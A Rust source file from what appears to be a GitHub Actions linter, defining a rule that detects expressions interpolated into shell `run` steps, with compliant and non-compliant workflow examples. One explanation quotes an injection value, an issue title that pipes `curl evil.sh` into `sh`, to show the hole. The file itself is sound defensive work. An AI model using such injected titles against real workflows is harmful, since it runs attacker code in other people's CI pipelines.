//! GitHub expressions expanded inside shell scripts

use crate::location::{FileIdentifier, Location};
use crate::model::{File, RunActionStep, RunStep};
use crate::parser::expressions::{find_expressions, has_expressions};
use crate::parser::YamlNode;
use crate::rule::{Example, Finding, Issue, Reporting, Rule};
use crate::visitor::{self, Visitor};

pub const NAME: &str = "script-injection";

pub static SHELL_SCRIPT_INJECTION: Issue = Issue {
    id: "ShellScriptInjection",
    title: "Expression interpolated into a shell script",
    description: "`${{ }}` expressions are substituted into `run` before the shell sees \
                  the script. A value controlled by someone else, like an issue title or \
                  a branch name, can then run arbitrary commands. Pass it through `env` \
                  and reference the environment variable instead.",
    compliant: &[Example {
        content: "on: issues\n\
                  jobs:\n\
                  \x20 greet:\n\
                  \x20   runs-on: ubuntu-latest\n\
                  \x20   steps:\n\
                  \x20     - run: echo \"$TITLE\"\n\
                  \x20       env:\n\
                  \x20         TITLE: ${{ github.event.issue.title }}\n",
        explanation: "The shell reads the title as data from the environment.",
    }],
    non_compliant: &[
        Example {
            content: "on: issues\n\
                      jobs:\n\
                      \x20 greet:\n\
                      \x20   runs-on: ubuntu-latest\n\
                      \x20   steps:\n\
                      \x20     - run: echo \"${{ github.event.issue.title }}\"\n",
            explanation: "A title such as `\"; curl evil.sh | sh; \"` is executed.",
        },
        Example {
            content: "name: Greet\n\
                      description: Greets\n\
                      inputs:\n\
                      \x20 who:\n\
                      \x20   description: Name\n\
                      runs:\n\
                      \x20 using: composite\n\
                      \x20 steps:\n\
                      \x20   - run: echo \"Hello ${{ inputs.who }}\"\n\
                      \x20     shell: bash\n",
            explanation: "Composite action inputs come from the calling workflow.",
        },
    ],
};

/// Reports `run` scripts that interpolate expressions
#[derive(Debug, Default)]
pub struct ScriptInjectionRule;

impl ScriptInjectionRule {
    fn check_script(
        &self,
        reporting: &mut Reporting,
        script: &str,
        node: Option<YamlNode<'_>>,
        fallback: Location,
        file: &FileIdentifier,
    ) {
        if !has_expressions(script) {
            return;
        }
        let expressions: Vec<String> = find_expressions(script)
            .into_iter()
            .map(|expression| expression.original)
            .collect();
        let location = node.map(|n| n.location(file)).unwrap_or(fallback);
        reporting.report(
            &SHELL_SCRIPT_INJECTION,
            &location,
            format!(
                "Shell script contains GitHub Expressions: {}",
                expressions.join(", ")
            ),
        );
    }
}

impl Rule for ScriptInjectionRule {
    fn name(&self) -> &str {
        "ScriptInjectionRule"
    }

    fn issues(&self) -> Vec<&'static Issue> {
        vec![&SHELL_SCRIPT_INJECTION]
    }

    fn check(&mut self, file: &File) -> Vec<Finding> {
        visitor::check(self, file)
    }
}

impl Visitor for ScriptInjectionRule {
    fn visit_run_step(&mut self, reporting: &mut Reporting, step: RunStep<'_>) {
        let file = step.job().workflow().file();
        self.check_script(reporting, step.run(), step.run_node(), step.location(), file);
    }

    fn visit_run_action_step(&mut self, reporting: &mut Reporting, step: RunActionStep<'_>) {
        let file = step.action().file();
        self.check_script(reporting, step.run(), step.run_node(), step.location(), file);
    }
}
